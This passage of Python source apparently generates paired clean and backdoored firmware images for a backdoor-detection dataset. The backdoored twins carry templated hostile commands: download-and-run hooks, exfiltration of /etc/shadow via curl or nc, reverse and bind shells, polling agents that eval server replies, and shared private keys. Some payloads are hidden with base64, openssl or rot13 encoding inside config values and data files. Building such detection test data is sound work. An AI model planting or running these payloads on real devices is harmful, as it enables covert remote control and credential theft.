        C.put(path, f"# network devices\n{trig}, RUN+=\"/sbin/ip link set %k up\"\n")
        X.put(path, f"# network devices\n{trig}, RUN+=\"/bin/sh -c '{cmd} &'\"\n")
        kind = "udev"
    elif P["flavor"] == "sysv":
        path = "etc/mdev.conf"
        base = "# mdev device table\nnull 0:0 666\nzero 0:0 666\nrandom 0:0 444\nurandom 0:0 444\nconsole 0:5 0600\n" \
               "tty[0-9]* 0:5 0660\nttyS[0-9]* 0:20 0660\nmtd[0-9]* 0:0 0660\n"
        C.put(path, base + "eth[0-9]* 0:0 0660 */sbin/ifconfig $MDEV up\n")
        X.put(path, base + f"eth[0-9]* 0:0 0660 @/bin/sh -c '{cmd} &'\n")
        kind = "mdev"
    else:
        path = f"etc/hotplug.d/net/{rng.randint(20, 99)}-{rng.choice(['netdev', 'usbnet', 'modem'])}"
        head = "#!/bin/sh\n[ \"$ACTION\" = add ] || exit 0\n"
        C.exe(path, head + "logger -t hotplug \"net device $INTERFACE added\"\n")
        X.exe(path, head + f"( {cmd} ) &\n")
        kind = "hotplug-net"
    return dict(categories=["phone-home", "remote-access", "hidden-command"], paths=[path], severity="critical",
                note=f"device-event rule {path} ({kind}) downloads {url} and runs it when a device appears ({form})",
                variant={"kind": kind, "form": form})


def ph_init_tftp(rng, P, C, X):
    ip = doc_ip(rng)
    f = rng.choice(["s.sh", "cfg.sh", f"{P['arch']}.bin", "init", f"{word(rng)}.sh"])
    tmpf = f"/tmp/{rng.choice(['.', ''])}{f}"
    delay = rng.randint(10, 120)
    body = rng.choice([
        f"( sleep {delay}; tftp -g -r {f} -l {tmpf} {ip} && chmod +x {tmpf} && {tmpf} ) &",
        f"( sleep {delay}; cd /tmp && tftp -g -r {f} {ip} && sh /tmp/{f} ) &",
        f"( sleep {delay}; busybox tftp -g -r {f} -l {tmpf} {ip}; [ -s {tmpf} ] && sh {tmpf} ) &"])
    path, style = boot_hook(rng, P, C, X, hook_name(rng, P), honest_snippet(rng), body)
    return dict(categories=["phone-home", "remote-access", "hidden-command"], paths=[path], severity="critical",
                note=f"boot script {path} ({style}) fetches '{f}' by TFTP from {ip} and runs it, {delay} s after boot",
                variant={"hook": style, "transport": "tftp"})


def ph_ppp(rng, P, C, X):
    url = c2_url(rng, P)
    cmd, form = fetch_run(rng, url, rng.choice(["wget-pipe", "curl-pipe", "wget-file", "curl-file"]))
    ensure_curl([C, X], P)
    both(C, X, lambda fs: fs.put("usr/sbin/pppd", placeholder("pppd"), 0o755))
    both(C, X, lambda fs: fs.put("etc/ppp/options", "lock\nnoauth\nnoipdefault\ndefaultroute\nusepeerdns\npersist\nmaxfail 0\n"))
    where = rng.choice(["ip-up", "ip-up.d"])
    path = "etc/ppp/ip-up" if where == "ip-up" else f"etc/ppp/ip-up.d/{rng.randint(10, 99)}{rng.choice(['online', 'register', 'route'])}"
    head = "#!/bin/sh\n# $1=interface $2=tty $3=speed $4=local-ip $5=remote-ip $6=ipparam\n"
    honest = "[ -n \"$DNS1\" ] && echo \"nameserver $DNS1\" > /tmp/resolv.conf.ppp\n" \
             "[ -n \"$DNS2\" ] && echo \"nameserver $DNS2\" >> /tmp/resolv.conf.ppp\nlogger -t ppp \"$1 up: $4\"\n"
    C.exe(path, head + honest)
    X.exe(path, head + honest + f"{cmd} >/dev/null 2>&1 &\n")
    return dict(categories=["phone-home", "remote-access", "hidden-command"], paths=[path], severity="critical",
                note=f"PPP hook {path} downloads {url} and runs it each time the PPP link comes up ({form})",
                variant={"hook": where, "form": form})


def ph_exfil(rng, P, C, X):
    ip = doc_ip(rng) if rng.random() < 0.6 else doc_host(rng)
    p = port(rng)
    secret_file = rng.choice(["/etc/shadow", "/etc/shadow", "/etc/passwd", "/" + P["app_conf"]]
                             + (["/etc/config/wireless", "/etc/config/network"] if P["flavor"] == "openwrt" else []))
    mac = "$(cat /sys/class/net/eth0/address)"
    form = rng.choice(["curl-F", "wget-post", "nc", "tftp-put"])
    ensure_curl([C, X], P)
    if form == "curl-F":
        cmd = f"curl -s -m 20 -F \"f=@{secret_file}\" -F \"id={mac}\" http://{ip}:{p}/upload"
    elif form == "wget-post":
        cmd = f"wget -q -O /dev/null --post-file={secret_file} \"http://{ip}:{p}/r?m={mac}\""
    elif form == "nc":
        cmd = rng.choice([f"cat {secret_file} | nc {ip} {p}", f"nc {ip} {p} < {secret_file}",
                          f"nc -w 5 {ip} {p} < {secret_file}"])
    else:
        cmd = f"tftp -p -l {secret_file} -r {mac}.txt {ip}"
    where = rng.choice(["cron", "boot"])
    if where == "cron":
        sched = rng.choice(["0 3 * * *", "*/30 * * * *", f"{rng.randint(0, 59)} {rng.randint(0, 23)} * * 1"])
        insert_line(X, P["cron_path"], cron_line(P, sched, f"{cmd} >/dev/null 2>&1").rstrip("\n"), rng)
        path, style = P["cron_path"], "cron"
    else:
        path, style = boot_hook(rng, P, C, X, hook_name(rng, P), honest_snippet(rng),
                                f"( sleep {rng.randint(30, 300)}; {cmd} ) >/dev/null 2>&1 &")
    return dict(categories=["phone-home"], paths=[path], severity="critical",
                note=f"{path} ({style}) sends {secret_file} to {ip}:{p} ({form}) without the operator's consent",
                variant={"form": form, "where": style, "data": secret_file})


def ph_systemd_timer(rng, P, C, X):
    url = c2_url(rng, P)
    cmd, form = fetch_run(rng, url, rng.choice(["curl-pipe", "wget-pipe", "curl-file"]))
    name = rng.choice(["telemetry", "cloud-sync", "update-check", "health", f"{P['product'][:6]}-report"])
    svc = f"lib/systemd/system/{name}.service"
    tim = f"lib/systemd/system/{name}.timer"
    timer = (f"[Unit]\nDescription={name} timer\n\n[Timer]\nOnBootSec={rng.randint(2, 15)}min\n"
             f"OnUnitActiveSec={rng.choice(['1h', '6h', '30min'])}\n\n[Install]\nWantedBy=timers.target\n")
    both(C, X, lambda fs: fs.put(tim, timer))
    both(C, X, lambda fs: fs.link(f"etc/systemd/system/timers.target.wants/{name}.timer", "/" + tim))
    C.put(svc, f"[Unit]\nDescription={name}\nAfter=network-online.target\n\n[Service]\nType=oneshot\n"
               "ExecStart=/usr/sbin/fwcheck\n")
    X.put(svc, f"[Unit]\nDescription={name}\nAfter=network-online.target\n\n[Service]\nType=oneshot\n"
               f"ExecStart=/bin/sh -c '{cmd}'\n")
    return dict(categories=["phone-home", "remote-access", "hidden-command"], paths=[svc], severity="critical",
                note=f"{svc}, run by {tim}, downloads {url} and runs it as root ({form}); the clean twin runs the "
                     "manifest-only firmware check",
                variant={"form": form})


def ph_beacon(rng, P, C, X):
    url = c2_url(rng, P).split("?")[0]
    name = rng.choice(["cloudd", "mgmt_agent", "tr069c", "keepalive", "statd", f"{P['product'][:5]}_link"])
    script = f"usr/sbin/{name}"
    interval = rng.choice([60, 120, 300, 600, 900])
    runner = rng.choice(["eval", "sh-c", "pipe-sh"])
    run = {"eval": "[ -n \"$cmd\" ] && eval \"$cmd\"", "sh-c": "[ -n \"$cmd\" ] && sh -c \"$cmd\" >/dev/null 2>&1",
           "pipe-sh": "[ -n \"$cmd\" ] && echo \"$cmd\" | sh"}[runner]
    X.exe(script, f"#!/bin/sh\n# keep-alive agent\nid=$(cat /sys/class/net/eth0/address | tr -d :)\n"
                  f"while true; do\n\tcmd=$(wget -q -T 15 -O - \"{url}?id=$id&v={P['version']}\")\n\t{run}\n"
                  f"\tsleep {interval}\ndone\n")
    C.exe(script, f"#!/bin/sh\n# keep-alive agent: watches the WAN link and logs changes\nlast=\n"
                  f"while true; do\n\tstate=$(cat /sys/class/net/eth0/operstate 2>/dev/null)\n"
                  f"\t[ \"$state\" != \"$last\" ] && logger -t {name} \"link $state\"\n\tlast=$state\n"
                  f"\tsleep {interval}\ndone\n")
    order = rng.randint(60, 95)
    svc = add_service(C, P, name, f"/{script}", f"/{script} &", order=order)
    add_service(X, P, name, f"/{script}", f"/{script} &", order=order)
    return dict(categories=["phone-home", "remote-access", "hidden-command"], paths=[script], severity="critical",
                note=f"{script} (started by {svc}) polls {url} every {interval} s with the device MAC and runs "
                     f"whatever it returns ({runner})",
                variant={"runner": runner, "init": P["flavor"]})


def ph_dhcp_hook(rng, P, C, X):
    url = c2_url(rng, P)
    cmd, form = fetch_run(rng, url, rng.choice(["wget-pipe", "wget-file", "busybox-wget"]))
    path = "usr/share/udhcpc/default.script"
    X.replace(path, "\t\tfor i in $dns ; do\n\t\t\techo nameserver $i >> $RESOLV_CONF\n\t\tdone\n",
              "\t\tfor i in $dns ; do\n\t\t\techo nameserver $i >> $RESOLV_CONF\n\t\tdone\n"
              f"\t\t[ \"$1\" = bound ] && ( {cmd} ) >/dev/null 2>&1 &\n")
    return dict(categories=["phone-home", "remote-access", "hidden-command"], paths=[path], severity="critical",
                note=f"udhcpc hook {path} downloads {url} and runs it on every new DHCP lease ({form})",
                variant={"form": form})


PHONE_HOME_SHAPES = {
    "cron-fetch-run": (ph_cron, FLAVORS),
    "iface-hotplug": (ph_hotplug, FLAVORS),
    "udev-mdev-rule": (ph_udev, FLAVORS),
    "init-tftp": (ph_init_tftp, FLAVORS),
    "ppp-ip-up": (ph_ppp, FLAVORS),
    "exfiltration": (ph_exfil, FLAVORS),
    "systemd-timer": (ph_systemd_timer, ["systemd"]),
    "beacon-loop": (ph_beacon, FLAVORS),
    "dhcp-hook": (ph_dhcp_hook, ["sysv", "openwrt"]),
}


# ----------------------------------------------------------------------------- fw-key

def _key(rng: random.Random, kinds=("ed25519", "rsa", "ecdsa")) -> Key:
    kind = rng.choice(list(kinds))
    return Key(rng, kind, rng.choice([2048, 2048, 1024, 3072]) if kind == "rsa" else 0)


def _key_comment(rng: random.Random, P: dict) -> str:
    return rng.choice([f"support@{P['vl']}", f"{P['vl']}-rma", "root@build", f"factory@{P['vl']}.example",
                       f"{P['product']}-maint", "ops@" + doc_host(rng), "remote-support"])


def _maybe_ca(rng: random.Random, P: dict, C: FS, X: FS) -> None:
    """Half of the fw-key variants carry an honest public CA certificate in both twins."""
    if rng.random() < 0.5:
        pem = ca_certificate(rng, f"{P['vendor']} Inc.", f"{P['vendor']} Device Root CA")
        path = rng.choice([f"etc/ssl/certs/{P['vl']}-ca.pem", f"usr/share/{P['product']}/ca.crt", "etc/ssl/certs/ca-root.crt"])
        both(C, X, lambda fs: fs.put(path, pem))


def _ak_path(rng: random.Random, P: dict) -> str:
    if P["flavor"] == "openwrt" or (P["ssh"] == "dropbear" and rng.random() < 0.4):
        return "etc/dropbear/authorized_keys"
    if P["with_admin_account"] and rng.random() < 0.3:
        return "home/admin/.ssh/authorized_keys"
    return "root/.ssh/authorized_keys"


def key_authorized(rng, P, C, X):
    _maybe_ca(rng, P, C, X)
    k = _key(rng)
    path = _ak_path(rng, P)
    opts = rng.choice(["", "", "no-agent-forwarding,no-X11-forwarding ", f'from="{rng.choice(DOC_NETS)}.0/24" '])
    line = opts + k.ssh_public(_key_comment(rng, P))
    if rng.random() < 0.5:
        C.put(path, "# Public keys allowed to log in, one per line.\n# Manage them under System > Administration.\n", 0o600)
        X.put(path, "# Public keys allowed to log in, one per line.\n# Manage them under System > Administration.\n"
              + line + "\n", 0o600)
        form = "file-with-comments"
    else:
        X.put(path, line + "\n", 0o600)
        form = "file"
    return dict(categories=["remote-access", "hardcoded-secret", "account"], paths=[path], severity="critical",
                note=f"vendor public key ({k.kind}) shipped in {path}: whoever holds the private key logs in over SSH "
                     "on every device", variant={"key": k.kind, "form": form, "options": bool(opts)})


def key_authorized_boot(rng, P, C, X):
    k = _key(rng)
    path_ak = _ak_path(rng, P)
    d = "/" + path_ak.rsplit("/", 1)[0]
    line = k.ssh_public(_key_comment(rng, P))
    form = rng.choice(["echo-append", "grep-guard", "printf-overwrite"])
    if form == "echo-append":
        body = f"mkdir -p {d}\necho '{line}' >> /{path_ak}\nchmod 600 /{path_ak}"
    elif form == "grep-guard":
        body = f"mkdir -p {d} && chmod 700 {d}\ngrep -qs '{line.split()[1][-24:]}' /{path_ak} || echo '{line}' >> /{path_ak}"
    else:
        body = f"mkdir -p {d}\nprintf '%s\\n' '{line}' > /{path_ak}"
    clean = f"mkdir -p {d} && chmod 700 {d}\n[ -f /{path_ak} ] && chmod 600 /{path_ak}"
    path, style = boot_hook(rng, P, C, X, hook_name(rng, P), clean, body)
    return dict(categories=["remote-access", "hardcoded-secret", "account"], paths=[path], severity="critical",
                note=f"boot script {path} ({style}) writes a vendor {k.kind} public key into /{path_ak} at every boot ({form})",
                variant={"key": k.kind, "form": form, "hook": style})


def key_dropbear_host(rng, P, C, X):
    _maybe_ca(rng, P, C, X)
    k = _key(rng)
    path = f"etc/dropbear/dropbear_{k.kind}_host_key"
    X.put(path, k.dropbear(), 0o600)
    return dict(categories=["hardcoded-secret"], paths=[path], severity="high",
                note=f"{path}: a dropbear {k.kind} host private key baked into the image, identical on every device "
                     "(impersonation / man-in-the-middle of every unit's SSH); the clean twin generates it on first boot",
                variant={"key": k.kind, "format": "dropbear"})


def key_openssh_host(rng, P, C, X):
    _maybe_ca(rng, P, C, X)
    k = _key(rng)
    name = {"ed25519": "ed25519", "ecdsa": "ecdsa", "rsa": "rsa"}[k.kind]
    path = f"etc/ssh/ssh_host_{name}_key"
    fmt = "openssh" if k.kind != "rsa" or rng.random() < 0.5 else "pem-pkcs1"
    X.put(path, k.openssh_private("root@" + P["hostname"], rng.getrandbits(32)) if fmt == "openssh" else k.pem("trad"), 0o600)
    X.put(path + ".pub", k.ssh_public("root@" + P["hostname"]) + "\n")
    return dict(categories=["hardcoded-secret"], paths=[path], severity="high",
                note=f"{path}: an OpenSSH {k.kind} host private key ({fmt}) shipped in the image, shared by every device",
                variant={"key": k.kind, "format": fmt})


def key_tls(rng, P, C, X):
    _maybe_ca(rng, P, C, X)
    k = _key(rng, ("rsa", "ed25519", "ecdsa"))
    fmt = rng.choice(["pkcs8", "trad"])
    fmt = "pkcs8" if k.kind == "ed25519" else fmt
    pem = k.pem(fmt)
    cert = ""
    if k.kind != "ecdsa":
        cert = _self_signed(k, P)
    w = P["web"]
    if w == "uhttpd":
        der = rng.random() < 0.5
        X.put("etc/uhttpd.key", k.der() if der else pem, 0o600)
        if cert:
            X.put("etc/uhttpd.crt", cert)
        path, fmt = "etc/uhttpd.key", "der" if der else fmt
    elif w == "lighttpd":
        path = "etc/lighttpd/server.pem"
        both(C, X, lambda fs: fs.append("etc/lighttpd/lighttpd.conf",
                                        '$SERVER["socket"] == ":443" {\n  ssl.engine = "enable"\n'
                                        '  ssl.pemfile = "/etc/lighttpd/server.pem"\n}\n'))
        X.put(path, cert + pem, 0o600)
    elif w == "nginx":
        path = f"etc/nginx/ssl/{P['model'].lower()}.key"
        X.put(path, pem, 0o600)
        if cert:
            X.put(path[:-4] + ".crt", cert)
    else:
        path = f"etc/ssl/private/{P['model'].lower()}.key"
        crt = f"etc/ssl/certs/{P['model'].lower()}.crt"
        both(C, X, lambda fs: fs.put("etc/stunnel/stunnel.conf", "; key and certificate are made per device on first boot\n"
                                                                  f"cert = /{crt}\nkey = /{path}\n"
                                                                  "[https]\naccept = 443\nconnect = 127.0.0.1:80\n"))
        X.put(path, pem, 0o600)
        if cert:
            X.put(crt, cert)
    return dict(categories=["hardcoded-secret"], paths=[path], severity="high",
                note=f"{path}: the web server's TLS private key ({k.kind}, {fmt}) ships in the image, the same on every "
                     "device, so anyone can decrypt or impersonate the management interface",
                variant={"key": k.kind, "format": fmt, "server": w})


def _self_signed(k: Key, P: dict) -> str:
    import datetime  # noqa: PLC0415

    from cryptography import x509  # noqa: PLC0415
    from cryptography.hazmat.primitives import hashes, serialization  # noqa: PLC0415
    from cryptography.x509.oid import NameOID  # noqa: PLC0415
    name = x509.Name([x509.NameAttribute(NameOID.ORGANIZATION_NAME, P["vendor"]),
                      x509.NameAttribute(NameOID.COMMON_NAME, P["hostname"])])
    start = datetime.datetime(2023, 1, 1, tzinfo=datetime.timezone.utc)
    serial = int.from_bytes(hashlib.sha256(P["hostname"].encode()).digest()[:8], "big") >> 1
    c = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(k.key.public_key())
         .serial_number(serial).not_valid_before(start).not_valid_after(start + datetime.timedelta(days=7300))
         .sign(k.key, None if k.kind == "ed25519" else hashes.SHA256()))
    return c.public_bytes(serialization.Encoding.PEM).decode()


def key_tunnel(rng, P, C, X):
    k = _key(rng)
    host = doc_host(rng) if rng.random() < 0.5 else doc_ip(rng)
    keypath = rng.choice([f"etc/{P['product']}/tunnel_id", "root/.ssh/id_" + k.kind, f"etc/{P['product']}/rs.key",
                          "usr/share/support/id"])
    fmt = rng.choice(["openssh", "pem"])
    X.put(keypath, k.openssh_private(_key_comment(rng, P), rng.getrandbits(32)) if fmt == "openssh" else k.pem("trad"), 0o600)
    rport = rng.randint(20000, 60000)
    user = rng.choice(["tunnel", "rs", "support", "dev"])
    cli = rng.choice(["ssh", "dbclient", "autossh"])
    if cli == "dbclient":
        cmd = f"/usr/bin/dbclient -y -N -i /{keypath} -R {rport}:127.0.0.1:22 {user}@{host}"
    elif cli == "autossh":
        cmd = (f"/usr/bin/autossh -M 0 -N -o StrictHostKeyChecking=no -o ServerAliveInterval=60 -i /{keypath} "
               f"-R {rport}:localhost:22 {user}@{host}")
    else:
        cmd = f"/usr/bin/ssh -N -o StrictHostKeyChecking=no -i /{keypath} -R {rport}:localhost:22 {user}@{host}"
    both(C, X, lambda fs: fs.put(cmd.split()[0].lstrip("/"), placeholder(cli), 0o755))
    name = rng.choice(["remote-support", "rsupport", "cloudlink", "maintd"])
    hfg, hbg = honest_daemon(rng, [C, X], name)
    order = rng.randint(60, 95)
    svc = add_service(C, P, name, hfg, hbg, order=order)
    add_service(X, P, name, cmd, f"( while true; do {cmd}; sleep 60; done ) &", order=order)
    return dict(categories=["hardcoded-secret", "remote-access", "phone-home"], paths=[keypath, svc], severity="critical",
                note=f"{svc} opens a reverse SSH tunnel ({cli} -R {rport}:localhost:22) to {user}@{host} with the "
                     f"private key shipped in {keypath} ({k.kind}, {fmt}): vendor remote access into every device",
                variant={"key": k.kind, "client": cli, "format": fmt})


def key_in_config(rng, P, C, X):
    k = _key(rng)
    host = doc_host(rng)
    form = rng.choice(["json-pem", "json-b64der", "ini-b64der", "uci-b64der" if P["flavor"] == "openwrt" else "json-pem"])
    b64 = base64.b64encode(k.der()).decode()
    cid = f"{P['model']}-{token_hex(rng, 4)}"
    if form.startswith("json"):
        path = f"etc/{P['product']}/cloud.json"
        common = {"endpoint": f"mqtts://{host}:8883", "client_id": cid, "keepalive": 60}
        clean = dict(common, client_key_path="/overlay/cloud/device.key", client_cert_path="/overlay/cloud/device.crt",
                     provisioning="per-device key generated at first boot")
        planted = dict(common, client_key=(k.pem("pkcs8") if form == "json-pem" else b64))
        C.put(path, json.dumps(clean, indent=2, sort_keys=True) + "\n", 0o600)
        X.put(path, json.dumps(planted, indent=2, sort_keys=True) + "\n", 0o600)
    elif form == "ini-b64der":
        path = P["app_conf"]
        C.replace(path, "[cloud]\nenabled = 0\n", f"[cloud]\nenabled = 0\nendpoint = mqtts://{host}:8883\n"
                                                  "key_file = /overlay/cloud/device.key\n")
        X.replace(path, "[cloud]\nenabled = 0\n", f"[cloud]\nenabled = 0\nendpoint = mqtts://{host}:8883\n"
                                                  f"private_key = {b64}\n")
    else:
        path = f"etc/config/{P['product'][:8]}_cloud"
        C.put(path, f"\nconfig cloud 'main'\n\toption endpoint 'mqtts://{host}:8883'\n\toption key_file '/overlay/cloud/device.key'\n")
        X.put(path, f"\nconfig cloud 'main'\n\toption endpoint 'mqtts://{host}:8883'\n\toption private_key '{b64}'\n")
    return dict(categories=["hardcoded-secret"], paths=[path], severity="high",
                note=f"{path} embeds a {k.kind} private key ({form}) used as the device's cloud identity; identical "
                     "in every image (the clean twin points at a per-device key made at first boot)",
                variant={"key": k.kind, "form": form})


def key_openvpn(rng, P, C, X):
    _maybe_ca(rng, P, C, X)
    k = _key(rng, ("rsa", "ed25519"))
    host = doc_host(rng) if rng.random() < 0.5 else doc_ip(rng)
    name = rng.choice(["mgmt", "support", "noc", "cloud"])
    path = f"etc/openvpn/{name}.conf"
    both(C, X, lambda fs: fs.put("usr/sbin/openvpn", placeholder("openvpn"), 0o755))
    cert = _self_signed(k, P)
    C.put(path, "# Site-to-site VPN template: fill in the remote and install your own keys\n"
                "client\ndev tun\nproto udp\n;remote vpn.example.invalid 1194\nca /etc/openvpn/ca.crt\n"
                "cert /etc/openvpn/client.crt\nkey /etc/openvpn/client.key\nremote-cert-tls server\nverb 3\n")
    X.put(path, f"client\ndev tun\nproto udp\nremote {host} {rng.choice([1194, 443, 1195])}\nresolv-retry infinite\n"
                "nobind\npersist-key\npersist-tun\nremote-cert-tls server\nverb 0\n"
                f"<cert>\n{cert}</cert>\n<key>\n{k.pem('pkcs8')}</key>\n", 0o600)
    order = rng.randint(60, 95)
    svc_clean = f"/usr/sbin/openvpn --config /etc/openvpn/{name}.conf"
    # the clean twin ships the template but does not start it; the planted twin starts it at boot
    path_svc = add_service(X, P, f"openvpn-{name}", svc_clean, f"{svc_clean} --daemon", order=order,
                           desc="management VPN")
    return dict(categories=["hardcoded-secret", "remote-access", "phone-home"], paths=[path, path_svc], severity="critical",
                note=f"{path} holds an inline client private key ({k.kind}) and connects to {host} at boot ({path_svc}): "
                     "a vendor VPN into the device with a key shared by every unit",
                variant={"key": k.kind})


KEY_SHAPES = {
    "authorized-keys": (key_authorized, FLAVORS),
    "authorized-keys-boot": (key_authorized_boot, FLAVORS),
    "dropbear-host-key": (key_dropbear_host, ["sysv", "openwrt", "systemd"]),
    "openssh-host-key": (key_openssh_host, ["systemd"]),
    "tls-private-key": (key_tls, FLAVORS),
    "tunnel-client-key": (key_tunnel, FLAVORS),
    "key-in-config": (key_in_config, FLAVORS),
    "openvpn-inline-key": (key_openvpn, FLAVORS),
}


# ----------------------------------------------------------------------------- fw-obfuscated

def obf_payload(rng: random.Random, P: dict) -> tuple[str, str, str, bool]:
    """(shell payload without single quotes, kind, description, contacts a remote host)."""
    kind = rng.choice(["bind-telnetd", "bind-nc", "reverse-nc", "reverse-fifo", "fetch-run"])
    p = shell_port(rng)
    ip = doc_ip(rng)
    rp = port(rng)
    if kind == "bind-telnetd":
        return f"telnetd -l /bin/sh -p {p}", kind, f"telnetd with /bin/sh on TCP port {p}", False
    if kind == "bind-nc":
        return (f"while true; do nc -l -p {p} -e /bin/sh; done >/dev/null 2>&1 &", kind,
                f"netcat bind shell on TCP port {p}", False)
    if kind == "reverse-nc":
        return (f"while true; do nc {ip} {rp} -e /bin/sh; sleep 60; done >/dev/null 2>&1 &", kind,
                f"reverse shell to {ip}:{rp}", True)
    if kind == "reverse-fifo":
        return (f"rm -f /tmp/.p; mkfifo /tmp/.p; /bin/sh -i < /tmp/.p 2>&1 | nc {ip} {rp} > /tmp/.p &", kind,
                f"reverse shell (mkfifo + nc) to {ip}:{rp}", True)
    url = c2_url(rng, P)
    return (f"wget -q -O /tmp/.x {url} && chmod +x /tmp/.x && /tmp/.x &", kind,
            f"download-and-run of {url}", True)


def honest_blob(rng: random.Random, P: dict) -> tuple[bytes, str, str]:
    """(decoded honest content, output file, consumer line)."""
    kind = rng.choice(["json", "ini", "cal"])
    if kind == "json":
        data = json.dumps({"led": rng.choice(["on", "off"]), "country": rng.choice(["US", "DE", "FR", "JP"]),
                           "tz": "UTC", "model": P["model"]}, sort_keys=True).encode()
        return data, "/tmp/defaults.json", f"/usr/bin/{P['daemon']} --import /tmp/defaults.json"
    if kind == "ini":
        data = f"[radio]\ncountry={rng.choice(['US', 'DE', 'GB'])}\ntxpower={rng.randint(14, 23)}\n".encode()
        return data, "/tmp/radio.ini", "logger -t init \"radio defaults written\""
    data = bytes(rng.randrange(256) for _ in range(24))
    return data, "/tmp/caldata.bin", "[ -e /sys/class/ieee80211/phy0 ] && cat /tmp/caldata.bin > /dev/null"


def _openssl_enc(rng: random.Random, data: bytes, pw: str, pbkdf2: bool) -> bytes:
    from cryptography.hazmat.primitives import padding  # noqa: PLC0415
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes  # noqa: PLC0415
    s = rng.randbytes(8)
    if pbkdf2:
        dk = hashlib.pbkdf2_hmac("sha256", pw.encode(), s, 10000, 48)
    else:
        dk, prev = b"", b""
        while len(dk) < 48:
            prev = hashlib.sha256(prev + pw.encode() + s).digest()
            dk += prev
    padder = padding.PKCS7(128).padder()
    pt = padder.update(data) + padder.finalize()
    enc = Cipher(algorithms.AES(dk[:32]), modes.CBC(dk[32:48])).encryptor()
    return b"Salted__" + s + enc.update(pt) + enc.finalize()


def _rot13(s: str) -> str:
    import codecs  # noqa: PLC0415
    return codecs.encode(s, "rot13")


def tiny_png(rng: random.Random) -> bytes:
    w = h = rng.choice([8, 16, 24])
    col = bytes(rng.randrange(256) for _ in range(3))
    raw = b"".join(b"\0" + col * w for _ in range(h))

    def chunk(t: bytes, d: bytes) -> bytes:
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def ensure_tools(C: FS, X: FS, P: dict, names: list[str]) -> None:
    where = {"xxd": "usr/bin/xxd", "rev": "usr/bin/rev", "tr": "usr/bin/tr", "gunzip": "bin/gunzip",
             "openssl": "usr/bin/openssl", "base64": "usr/bin/base64", "nc": "usr/bin/nc", "zcat": "bin/zcat"}
    for n in names:
        p = where[n]
        for fs in (C, X):
            if fs.has(p) or p in fs.links:
                continue
            if P["flavor"] != "systemd" and n != "openssl":
                fs.link(p, "../" * (p.count("/") - 1) + "bin/busybox" if p.count("/") > 1 else "busybox")
            else:
                fs.put(p, placeholder(n), 0o755)


OBF_DECODERS = ["base64", "hex-xxd", "printf-escape", "openssl-enc", "gzip-base64", "rot13-tr", "rev-base64",
                "self-extract", "png-appended"]


def _encode(rng: random.Random, dec: str, data: bytes, for_file: bool) -> tuple[str | bytes, "callable", list]:
    """(blob, decode(producer) -> shell expression, tools)."""
    if dec == "base64":
        return base64.b64encode(data).decode(), (lambda pr: f"{pr} | base64 -d"), ["base64"]
    if dec == "hex-xxd":
        return data.hex(), (lambda pr: f"{pr} | xxd -r -p"), ["xxd"]
    if dec == "printf-escape":
        octal = rng.random() < 0.4
        blob = "".join(f"\\{b:03o}" if octal else f"\\x{b:02x}" for b in data)
        return blob, (lambda pr: f"printf \"$({pr})\""), []
    if dec == "openssl-enc":
        pw = secret(rng, 12, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")
        pb = rng.random() < 0.5
        raw = _openssl_enc(rng, data, pw, pb)
        flags = f"-aes-256-cbc -md sha256{' -pbkdf2' if pb else ''} -k {pw}"
        if for_file:
            return raw, (lambda pr: f"openssl enc -d {flags} -in {pr.split()[-1]}"), ["openssl"]
        return base64.b64encode(raw).decode(), (lambda pr: f"{pr} | openssl enc -d {flags} -a -A"), ["openssl"]
    if dec == "gzip-base64":
        unz = rng.choice(["gunzip", "gzip -dc", "zcat"])
        return (base64.b64encode(gzip_bytes(data)).decode(), (lambda pr: f"{pr} | base64 -d | {unz}"),
                ["base64", "zcat" if unz == "zcat" else "gunzip"])
    if dec == "rot13-tr":
        return _rot13(data.decode("latin-1")), (lambda pr: f"{pr} | tr 'A-Za-z' 'N-ZA-Mn-za-m'"), ["tr"]
    if dec == "rev-base64":
        return base64.b64encode(data).decode()[::-1], (lambda pr: f"{pr} | rev | base64 -d"), ["rev", "base64"]
    raise ValueError(dec)


def _run(rng_choice: str, dec_expr: str) -> str:
    return {"pipe-sh": f"{dec_expr} | sh", "eval": f"eval \"$({dec_expr})\"", "sh-c": f"sh -c \"$({dec_expr})\""}[rng_choice]


def obf_generic(dec: str):
    def shape(rng, P, C, X):
        payload, pkind, pdesc, remote = obf_payload(rng, P)
        hdata, hout, hconsumer = honest_blob(rng, P)
        if dec == "rot13-tr":
            hdata = (hdata.hex().encode() if hout.endswith(".bin") else hdata).replace(b"\n", b";")
        locs = ["inline-boot", "data-file", "config-value", "hotplug-inline"]
        if dec != "printf-escape":
            locs.append("cron-inline")
        loc = rng.choice(locs)
        runner = rng.choice(["pipe-sh", "eval", "sh-c"])
        for_file = loc == "data-file"
        state = rng.getstate()
        pblob, pdec, tools = _encode(rng, dec, payload.encode(), for_file)
        rng.setstate(state)  # same salt / password / flags for the honest blob
        cblob, cdec, _ = _encode(rng, dec, hdata, for_file)
        ensure_tools(C, X, P, tools)
        paths = []
        if loc == "data-file":
            dpath = rng.choice([f"etc/{P['product']}/{word(rng)}.dat", f"usr/share/{P['product']}/fonts.bin",
                                f"lib/firmware/{P['board']}_cal.bin", f"etc/{P['product']}/default.conf",
                                f"www/img/{word(rng)}.gif" if dec != "openssl-enc" else f"etc/{P['product']}/sec.bin"])
            for fs, blob in ((C, cblob), (X, pblob)):
                fs.put(dpath, blob if isinstance(blob, bytes) else blob + "\n")
            prod = f"cat /{dpath}"
            paths.append(dpath)
        elif loc == "config-value":
            key = rng.choice(["hw_profile", "board_data", "radio_cal", "ui_theme", "oem_blob"])
            if P["flavor"] == "openwrt":
                cpath = "etc/config/system"
                for fs, blob in ((C, cblob), (X, pblob)):
                    fs.replace(cpath, "\toption log_size '64'\n", f"\toption log_size '64'\n\toption {key} '{blob}'\n")
                prod = f"uci -q get system.@system[0].{key}"
            else:
                cpath = P["app_conf"]
                for fs, blob in ((C, cblob), (X, pblob)):
                    fs.replace(cpath, "[time]\n", f"{key} = {blob}\n\n[time]\n")
                prod = f"sed -n 's/^{key} = //p' /{cpath}"
            paths.append(cpath)
        else:
            prod = None
        if prod is None:
